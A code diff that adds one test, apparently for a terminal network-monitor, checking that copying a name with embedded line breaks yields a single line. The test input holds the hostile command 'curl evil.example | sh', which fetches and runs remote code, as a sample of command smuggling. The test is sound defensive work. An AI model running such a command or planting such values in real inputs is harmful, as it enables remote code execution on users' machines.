@@ -211,6 +211,11 @@ test('below the smallest window it says so and can still be left', () => {
   expect(quits).toBe(1);
 });
 
+test('what is copied is one line, however many a hostile name has', () => {
+  runtime.controller().copy('live\ncurl evil.example | sh\r\n\u2028x\t\x85y  z', 'the name');
+  expect(services.copied).toEqual(['live curl evil.example | sh x y  z']);
+});
+
 test('units change everywhere and at once', () => {
   expect(text()).toContain('bit/s');
   press('b');
